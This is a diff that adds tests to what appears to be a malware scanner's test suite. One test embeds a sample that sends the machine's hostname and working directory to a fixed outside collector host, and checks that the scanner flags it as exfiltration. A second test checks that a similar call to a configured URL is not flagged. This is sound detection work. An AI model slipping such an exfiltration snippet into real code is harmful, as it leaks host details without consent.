@@ -643,3 +643,35 @@ def test_urlretrieve_then_tar_at_install_is_not_download_execute() -> None:
     result = scan({"setup.py": src})
     assert result.verdict != "malicious", worst(result)
     assert "intent.download-execute" not in rules(result, "high")
+
+
+def test_host_identity_sent_to_a_url_built_on_a_fixed_host_is_suspicious() -> None:
+    src = """
+        import os, socket
+        from urllib.parse import urlencode
+        import requests
+
+        SERVER = "http://collector-host.net:4242/api/log"
+
+        def notify():
+            query = urlencode({"h": socket.gethostname(), "cwd": os.getcwd()})
+            full = f"{SERVER}?{query}"
+            requests.get(full, timeout=5)
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/notify.py": src}), "high")
+
+
+def test_host_identity_sent_to_a_configured_base_url_is_not_flagged() -> None:
+    src = """
+        import socket
+        import requests
+
+        class Agent:
+            def __init__(self, base_url):
+                self.base_url = base_url
+
+            def register(self):
+                url = f"{self.base_url}/agents"
+                requests.post(url, json={"name": socket.gethostname()})
+    """
+    assert "intent.exfiltration" not in rules(scan({"demo/agent.py": src}))
